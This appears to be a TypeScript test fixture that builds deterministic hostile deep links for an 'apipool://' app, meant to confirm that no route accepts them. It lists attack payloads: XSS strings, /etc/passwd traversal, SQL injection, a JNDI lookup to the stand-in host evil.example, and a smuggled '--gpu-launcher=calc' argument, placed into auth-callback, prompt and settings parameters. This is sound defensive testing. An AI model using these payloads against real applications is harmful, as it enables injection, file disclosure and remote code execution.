/** Parts a link's author could try, put together; deterministic, so that a failure can be repeated. */
const targets = [
  'javascript:alert(1)',
  'https://evil.example/',
  'file:///etc/passwd',
  '//evil.example/share',
  '../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '<img src=x onerror=alert(1)>',
  '" --no-sandbox --gpu-launcher="calc',
  "' OR 1=1 --",
  '${jndi:ldap://evil.example}',
  '\u202egnp.exe',
  'A'.repeat(9000),
] as const;

const shapes: readonly ((target: string) => string)[] = [
  (target) => `apipool://${target}`,
  (target) => `apipool:${target}`,
  (target) => `apipool://open?url=${encodeURIComponent(target)}`,
  (target) => `apipool://chat/${encodeURIComponent(target)}`,
  (target) => `apipool://chat/${encodeURIComponent(target)}/../settings`,
  (target) => `apipool://settings?theme=${encodeURIComponent(target)}`,
  (target) => `apipool://new?send=true&prompt=${encodeURIComponent(target)}`,
  (target) => `apipool://new?prompt=a&prompt=${encodeURIComponent(target)}`,
  (target) => `apipool://new#access_token=${encodeURIComponent(target)}`,
  (target) => `apipool://auth/callback?access_token=${encodeURIComponent(target)}`,
  (target) => `apipool://auth/callback?code=${encodeURIComponent(target)}`,
  (target) => `apipool://auth/callback?token_hash=${encodeURIComponent(target)}&type=email`,
  (target) => `apipool://auth/callback?error=${encodeURIComponent(target)}`,
  (target) => `apipool://user:${encodeURIComponent(target)}@new`,
  (target) => `apipool://new:8080/?prompt=${encodeURIComponent(target)}`,
  (target) => `APIPOOL://NEW/${encodeURIComponent(target)}`,
  (target) => `apipool://new?model=${encodeURIComponent(target)}&${'x='.repeat(40_001)}`,
];

/** Links that no route may take. */
export function hostileLinks(count: number): readonly string[] {
  const all = shapes.flatMap((shape) => targets.map(shape));
  if (all.length < count) throw new Error(`only ${all.length} hostile links are known`);
  return all.slice(0, count);
}
